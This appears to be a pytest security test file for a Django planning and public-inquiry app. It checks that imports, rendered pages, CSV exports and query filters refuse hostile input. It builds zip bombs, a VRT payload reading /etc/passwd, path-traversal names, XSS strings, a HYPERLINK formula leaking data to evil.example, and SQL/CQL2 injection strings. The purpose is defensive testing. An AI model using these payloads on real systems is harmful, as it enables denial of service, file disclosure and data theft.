"""One catalogue of hostile input: each case gets a clear 4xx (a code and a message a person can
act on) and writes nothing; markup is stored as written and escaped wherever it is shown.

Cases tested elsewhere, not repeated here (case: where):

- observation form: self-intersecting and empty polygons, GeometryCollection, 3D, out-of-range
  coordinates, more than N vertices, unknown CRS, malformed GeoJSON, spoofed attachment,
  honeypot, theme injection, oversized body, a path in an attachment's name, markup kept as
  text (JSON and the portal's static shell), gazetteer injection:
  tests/inquiry/test_inquiry_hostile_input.py
- zone edit, every kind of bad polygon (property test: bow-ties, spikes, repeated points,
  empty, tiny, huge, out of range, 3D, too many vertices, unclosed rings):
  tests/security/test_geometry_property.py
- zone edit, invalid polygon with its location, overlap: tests/backend/test_editing_api.py
- prescription, invalid polygon, unknown kind, outside the plan:
  tests/backend/test_prescriptions_api.py
- zone import, unsupported extension, not a GeoPackage, zip without a .shp, an import with
  validation problems: tests/backend/test_import_export.py
- OGC, malformed CQL2 text and JSON, unknown property, unknown filter-lang, bad crs / bbox /
  limit, bad POST bodies: tests/ogc/test_ogc_api.py; personal data in any OGC response:
  tests/ogc/test_ogc_privacy.py
- OpenAPI-driven fuzzing: tests/backend/test_rest_schemathesis.py,
  tests/ogc/test_ogc_schemathesis.py

Here: zip bombs (honest and lying), spoofed zone-import files (a GDAL VRT disguised as GeoJSON
or DXF would read the server's files), unknown DXF entities, path traversal in zip members and
in upload names, markup escaped on the pages that render data on the server (validation report,
OGC HTML), no page script writing markup from strings (portal, commission workspace,
editor, dashboard), formulas neutralised in the register's CSV, and injection attempts in
CQL2 filters, OGC query parameters and REST query parameters.
"""

from __future__ import annotations

import io
import json
import struct
import uuid
import zipfile
from pathlib import Path

import pytest
import requests
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction

from inquiry import services as inquiry_services
from inquiry.models import (
    Attachment,
    Inquiry,
    InquiryStatus,
    Observation,
    ObservationEvent,
)
from planning.models import ImportJob, PlanningEvent, Zone

XSS = "<script>alert('xss')</script><img src=x onerror=alert(1)>"
ESCAPED = "&lt;script&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'

# -------------------------------------------------------------------------------------------
# Files built here


def _zip(members: dict[str, bytes], *, level: int = 9) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """600 MB of zeros in a zip of about 600 KB: more than the import's 500 MB cap."""
    buffer = io.BytesIO()
    chunk = b"\0" * 2**20
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zones.shp", b"\x00\x00\x27\x0a")
        with archive.open("zones.dbf", "w", force_zip64=True) as member:
            for _ in range(600):
                member.write(chunk)
    return buffer.getvalue()


def lying_zip_bomb() -> bytes:
    """A 32 MB member whose headers declare 100 bytes: the size check alone would pass it."""
    data = bytearray(_zip({"zones.shp": b"\x00\x00\x27\x0a" + b"\0" * (32 * 2**20)}))
    struct.pack_into("<I", data, data.find(b"PK\x03\x04") + 22, 100)
    struct.pack_into("<I", data, data.rfind(b"PK\x01\x02") + 24, 100)
    return bytes(data)


def vrt(source: str) -> bytes:
    """A GDAL virtual dataset reading another file: what a disguised upload would smuggle."""
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="passwd"><SrcDataSource>{source}</SrcDataSource>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def dxf(entities: str) -> bytes:
    """A minimal ASCII DXF with the given ENTITIES section body."""
    return f"0\nSECTION\n2\nENTITIES\n{entities}0\nENDSEC\n0\nEOF\n".encode()


UNKNOWN_ENTITIES = (
    "0\nFOOBAR\n8\nZM\n10\n300000\n20\n330000\n"  # not a DXF entity at all
    "0\nPOINT\n8\nZM\n10\n300000\n20\n330000\n"  # a point is not a zone
    "0\nTEXT\n8\nZM\n10\n300000\n20\n330000\n40\n5\n1\nZM\n"
)


def geojson(coordinates, kind: str = "Polygon") -> bytes:
    feature = {
        "type": "Feature",
        "properties": {"code": "ZM"},
        "geometry": {"type": kind, "coordinates": coordinates},
    }
    return json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()


FAR_AWAY = [[[500.0, 33.5], [500.1, 33.5], [500.1, 33.6], [500.0, 33.5]]]

# (case, file name, content, extra form fields, status, words of the message, code)
IMPORT_CASES = [
    ("zip bomb", "zones.zip", zip_bomb, {}, 400, "expands to more than", "too_big"),
    ("zip bomb lying about its size", "zones.zip", lying_zip_bomb, {}, 400, "zip", "bad_zip"),
    (
        "not a zip but named .zip",
        "zones.zip",
        lambda: b"GIF89a" + b"\0" * 64,
        {},
        400,
        "zip",
        "bad_zip",
    ),
    (
        "a PNG named .geojson",
        "zones.geojson",
        lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
        {},
        415,
        "content is not GeoJSON",
        "spoofed_type",
    ),
    (
        "a GDAL VRT disguised as GeoJSON (reads the server's files)",
        "zones.geojson",
        lambda: vrt("/etc/passwd"),
        {},
        415,
        "content is not GeoJSON",
        "spoofed_type",
    ),
    (
        "a GDAL VRT disguised as DXF",
        "zones.dxf",
        lambda: vrt("/etc/passwd"),
        {"crs": "EPSG:26191"},
        415,
        "content is not DXF",
        "spoofed_type",
    ),
    (
        "an executable named .gpkg",
        "zones.gpkg",
        lambda: b"MZ\x90\x00" + b"\0" * 64,
        {},
        415,
        "content is not GeoPackage",
        "spoofed_type",
    ),
    (
        "a zipped .shp that is text",
        "zones.zip",
        lambda: _zip({"zones.shp": b"hello", "zones.dbf": b"", "zones.shx": b""}),
        {},
        415,
        "content is not Shapefile",
        "spoofed_type",
    ),
    (
        "a DXF with only unknown entities",
        "zones.dxf",
        lambda: dxf(UNKNOWN_ENTITIES),
        {"crs": "EPSG:26191"},
        400,
        "holds no polygon",
        "empty",
    ),
    (
        "a DXF cut in the middle of an entity",
        "zones.dxf",
        lambda: b"0\nSECTION\n2\nENTITIES\n0\nLWPOLYLINE\n8\nZM\n90\n",
        {"crs": "EPSG:26191"},
        400,
        "",
        None,
    ),
    (
        "malformed GeoJSON",
        "zones.geojson",
        lambda: b'{"type": "FeatureCollection", "features": [',
        {},
        400,
        "could not be read as GeoJSON",
        "unreadable",
    ),
    (
        "a GeometryCollection only",
        "zones.geojson",
        lambda: json.dumps(
            {
                "type": "FeatureCollection",
                "features": [
                    {
                        "type": "Feature",
                        "properties": {"code": "ZM"},
                        "geometry": {"type": "GeometryCollection", "geometries": []},
                    }
                ],
            }
        ).encode(),
        {},
        400,
        "holds no polygon",
        "empty",
    ),
    (
        "an unknown CRS",
        "zones.geojson",
        lambda: geojson(FAR_AWAY),
        {"crs": "EPSG:999999"},
        400,
        "Unknown CRS",
        "unknown_crs",
    ),
    (
        "coordinates out of range",
        "zones.geojson",
        lambda: geojson(FAR_AWAY),
        {},
        400,
        "nothing was written",
        None,
    ),
]


def _counts(version) -> tuple[int, int, int]:
    return (
        Zone.objects.filter(version=version).count(),
        PlanningEvent.objects.filter(version=version).count(),
        ImportJob.objects.filter(version=version).count(),
    )


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("case", "name", "content", "form", "status", "words", "code"),
    IMPORT_CASES,
    ids=[c[0] for c in IMPORT_CASES],
)
def test_a_hostile_zone_import_is_refused_and_writes_nothing(
    planner_client, draft, case, name, content, form, status, words, code
):
    before = _counts(draft)
    upload = SimpleUploadedFile(name, content())
    response = planner_client.post(
        f"/api/v1/planning/versions/{draft.pk}/import/", {"file": upload, **form}
    )
    assert response.status_code == status, (case, response.content[:500])
    body = response.json()
    assert body["detail"] and body["code"], body
    assert words in body["detail"], (case, body["detail"])
    if code:
        assert body["code"] == code, body
    assert _counts(draft) == before, f"{case}: something was written"


@pytest.mark.django_db
def test_an_oversized_upload_is_refused_before_it_is_read(planner_client, draft, settings):
    settings.EU_MAX_UPLOAD_BYTES = 1024
    before = _counts(draft)
    upload = SimpleUploadedFile("zones.geojson", geojson(FAR_AWAY) + b" " * 2048)
    for path in ("import", "import-jobs"):
        response = planner_client.post(
            f"/api/v1/planning/versions/{draft.pk}/{path}/", {"file": upload}
        )
        assert response.status_code == 413 and "larger than" in response.json()["detail"]
        upload.seek(0)
    assert _counts(draft) == before


@pytest.mark.django_db
def test_zip_members_named_with_dot_dot_stay_in_the_work_directory(planner_client, draft, tmp_path):
    import geopandas as gpd
    from shapely.geometry import box

    zone = draft.zones.order_by("id").first()
    x, y = zone.geom.point_on_surface.coords
    source = tmp_path / "src"
    source.mkdir()
    frame = gpd.GeoDataFrame(
        {"code": [zone.code]}, geometry=[box(x, y, x + 1e-4, y + 1e-4)], crs=4326
    )
    frame.to_file(source / "zones.shp")
    escape = f"eu_sec_escape_{uuid.uuid4().hex}"
    members = {
        f"../../../../../../tmp/{escape}{p.suffix}": p.read_bytes() for p in source.iterdir()
    }
    upload = SimpleUploadedFile("zones.zip", _zip(members))
    response = planner_client.post(
        f"/api/v1/planning/versions/{draft.pk}/import/", {"file": upload, "dry_run": "true"}
    )
    assert response.status_code == 200, response.content[:500]
    assert response.json()["features"] == 1
    assert not list(Path("/tmp").glob(f"{escape}*")), "a zip member was written outside"


@pytest.mark.django_db
def test_an_import_job_upload_name_cannot_leave_its_directory(
    planner_client, draft, django_capture_on_commit_callbacks
):
    from django.conf import settings

    upload = SimpleUploadedFile("../../../../etc/cron.d/zones.geojson", geojson(FAR_AWAY))
    with django_capture_on_commit_callbacks(execute=False):
        response = planner_client.post(
            f"/api/v1/planning/versions/{draft.pk}/import-jobs/", {"file": upload}
        )
    assert response.status_code == 202, response.content
    job = ImportJob.objects.get(pk=response.json()["id"])
    stored = Path(job.upload.path).resolve()
    expected = (Path(settings.MEDIA_ROOT) / "imports" / f"version-{draft.pk}").resolve()
    assert stored.parent == expected, stored
    assert job.filename == "zones.geojson"
    job.upload.delete(save=False)


# -------------------------------------------------------------------------------------------
# Markup: stored as written, escaped where the server renders it, never run


@pytest.mark.django_db
def test_markup_in_a_zone_is_escaped_on_the_validation_report_page(planner_client, draft):
    zone = draft.zones.order_by("id").first()
    # As a legacy import could have left it: an unknown code, shown in the report.
    Zone.objects.filter(pk=zone.pk).update(code="<script>alert(1)", label_fr=XSS)
    api = planner_client.get(f"/api/v1/planning/zones/{zone.pk}/").json()
    assert api["label_fr"] == XSS, "stored as written"
    page = planner_client.get(f"/planning/versions/{draft.pk}/report/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "<script>alert" not in html and "onerror=alert" not in html.replace("&#x27;", "'")
    assert ESCAPED in html


@pytest.mark.django_db
def test_a_formula_in_the_register_is_neutralised_in_the_csv_only(
    client, django_user_model, open_inquiry_with_commission
):
    inquiry, member = open_inquiry_with_commission
    entry = inquiry_services.observation_submit(
        inquiry=inquiry,
        theme="zoning",
        body=FORMULA,
        author_name="@SUM(1+1)*cmd|' /C calc'!A0",
        author_email="formule@example.ma",
        consent_publication=True,
        ip="192.0.2.60",
    )
    client.force_login(member)
    base = f"/api/v1/inquiries/{inquiry.pk}/"
    stored = client.get(f"{base}register/{entry.register_number}/").json()
    assert stored["body"] == FORMULA, "the register keeps the text as written"
    import csv

    csv_text = client.get(f"{base}export/csv/").content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(csv_text)) if r["body"].endswith(FORMULA))
    assert row["body"] == "'" + FORMULA
    assert row["author_name"].startswith("'@")


@pytest.fixture
def open_inquiry_with_commission(db, django_user_model):
    from accounts.models import Role

    inquiry = Inquiry.objects.get(status=InquiryStatus.OPEN)
    member = django_user_model.objects.create_user(
        "cat_commission", password="a-catalogue-password", role=Role.COMMISSION
    )
    inquiry.commission.add(member)
    return inquiry, member


@pytest.fixture(scope="module")
def published_markup(live_url, django_db_setup, django_db_blocker):
    """A consented web observation holding markup, committed so the OGC API can read it."""
    with django_db_blocker.unblock():
        inquiry = Inquiry.objects.get(status=InquiryStatus.OPEN)
        entry = inquiry_services.observation_submit(
            inquiry=inquiry,
            theme="zoning",
            body=XSS,
            author_name="Balise",
            author_email="balise@example.ma",
            consent_publication=True,
            geometry=inquiry.version.zones.order_by("id").first().geom.point_on_surface,
            ip="192.0.2.61",
        )
    yield {"url": live_url, "entry": entry}
    with django_db_blocker.unblock(), transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute("SET LOCAL eurbanisme.register_purge = 'on'")
        ObservationEvent.objects.filter(observation=entry).delete()
        Attachment.objects.filter(observation=entry).delete()
        Observation.objects.filter(pk=entry.pk).delete()


def test_markup_in_an_observation_is_escaped_on_the_ogc_html_pages(published_markup):
    base = published_markup["url"] + "/ogc/collections/observations/items"
    number = published_markup["entry"].register_number
    inquiry = published_markup["entry"].inquiry_id
    query = f"register_number={number}&inquiry_id={inquiry}"
    data = requests.get(f"{base}?f=json&{query}", timeout=60).json()
    assert len(data.get("features", [])) == 1, (query, str(data)[:500])
    [feature] = data["features"]
    assert feature["properties"]["body"] == XSS, "published as written"
    for url in (f"{base}?f=html&{query}", f"{base}/{feature['id']}?f=html"):
        response = requests.get(url, timeout=60)
        assert response.status_code == 200, url
        assert response.headers["content-type"].startswith("text/html")
        assert "<script>alert" not in response.text, url
        assert "<img src=x" not in response.text, url
        assert ESCAPED in response.text, url


# -------------------------------------------------------------------------------------------
# Injection: CQL2 and SQL in filters and query parameters

OGC_INJECTIONS = [
    ("quote breaking a CQL2 string", {"filter": "code = 'x'' OR ''1''=''1'"}),
    ("stacked SQL after a CQL2 filter", {"filter": "code = 'x'; DROP TABLE planning_zone; --"}),
    ("SQL in a property name", {"filter": '"code"" OR 1=1 --" = 1'}),
    (
        "SQL in a CQL2 JSON property",
        {
            "filter": json.dumps({"op": "=", "args": [{"property": "code) OR (1=1"}, "x"]}),
            "filter-lang": "cql2-json",
        },
    ),
    ("SQL in a CQL2 function", {"filter": "S_INTERSECTS(geometry, POINT(pg_sleep(5) 0))"}),
    ("SQL in a property as query parameter", {"code": "x' OR '1'='1"}),
    ("SQL in sortby", {"sortby": "code;DROP TABLE planning_zone"}),
    ("SQL in bbox", {"bbox": "1,2,3,4);DROP TABLE planning_zone;--"}),
    ("SQL in limit", {"limit": "1;DROP TABLE planning_zone"}),
    ("SQL in properties", {"properties": "code,(SELECT author_email FROM inquiry_observation)"}),
]


@pytest.mark.parametrize(("case", "params"), OGC_INJECTIONS, ids=[c[0] for c in OGC_INJECTIONS])
def test_an_injection_attempt_on_the_ogc_api_is_refused_or_only_text(live_url, case, params):
    url = live_url + "/ogc/collections/zones/items"
    response = requests.get(url, params={"f": "json", **params}, timeout=60)
    assert response.status_code in (200, 400), (case, response.status_code, response.text[:300])
    body = response.json()
    if response.status_code == 400:
        assert body["description"], body
    else:
        # Taken as text, the attempt matches nothing, and no property but the zones' own.
        assert body["numberReturned"] == 0 or params.keys() <= {"sortby", "properties"}, case
        for feature in body["features"]:
            assert "author_email" not in json.dumps(feature)
    total = requests.get(url, params={"f": "json", "limit": 1}, timeout=60).json()
    assert total["numberMatched"] > 0, "the zones are still there"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("case", "path", "params", "statuses"),
    [
        ("register search", "register/", {"q": "' OR 1=1 --"}, {200}),
        ("register zone code", "register/", {"zone_code": "x' OR '1'='1"}, {200}),
        ("register commune", "register/", {"commune": "1 OR 1=1"}, {200, 400}),
        ("register tag", "register/", {"tag": "x'); DROP TABLE inquiry_observation; --"}, {200}),
    ],
)
def test_an_injection_attempt_on_the_register_filters_is_only_text(
    client, open_inquiry_with_commission, case, path, params, statuses
):
    inquiry, member = open_inquiry_with_commission
    client.force_login(member)
    before = Observation.objects.count()
    response = client.get(f"/api/v1/inquiries/{inquiry.pk}/{path}", params)
    assert response.status_code in statuses, (case, response.content[:300])
    if response.status_code == 200:
        assert response.json() == [], case
    assert Observation.objects.count() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("case", "url"),
    [
        ("watch level", "/api/v1/watch/indicators/population/values/?level=commune' OR '1'='1"),
        ("watch indicator", "/api/v1/watch/export.csv?indicator=population'--&level=commune"),
        (
            "watch analysis seed",
            "/api/v1/watch/analysis/?indicator=population&level=commune&seed=1;DROP",
        ),
        (
            "zones bbox",
            "/api/v1/planning/versions/{draft}/zones.geojson?bbox=1,2,3,4);DROP TABLE x",
        ),
        (
            "changes-at point",
            "/api/v1/planning/versions/{draft}/diff/{draft}/at/?lon=1 OR 1=1&lat=2",
        ),
        ("lookup point", "/api/v1/lookup/?lon=-7.6);DROP TABLE planning_zone;--&lat=33.5"),
        (
            "lookup geometry",
            '/api/v1/lookup/?geometry={{"type":"Point","coordinates":["0);DROP",0]}}',
        ),
    ],
)
def test_an_injection_attempt_in_rest_query_parameters_gets_a_400(planner_client, draft, case, url):
    before = Zone.objects.count()
    response = planner_client.get(url.format(draft=draft.pk))
    assert 400 <= response.status_code < 500, (case, response.status_code, response.content[:300])
    body = response.json()
    assert body.get("detail"), (case, body)
    assert Zone.objects.count() == before


# The portal, the commission workspace, the editor and the dashboard are static pages that build
# their content in the browser from JSON: they show text safely as long as no script writes
# markup from a string. A browser test per page would prove less than this guard over them all.
MARKUP_SINKS = ("innerHTML", "outerHTML", "insertAdjacentHTML", "setHTML", "document.write")


def test_the_pages_never_write_markup_from_strings():
    source = Path(__file__).resolve().parents[2] / "frontend" / "src"
    scripts = [p for p in source.rglob("*") if p.suffix in (".js", ".ts", ".mjs")]
    assert scripts, "frontend/src holds the pages' scripts"
    found = [
        f"{path.relative_to(source)}:{number}: {line.strip()}"
        for path in scripts
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if any(sink in line for sink in MARKUP_SINKS) and not line.lstrip().startswith("//")
    ]
    assert not found, "text must go through textContent (frontend/src/dom.js):\n" + "\n".join(found)
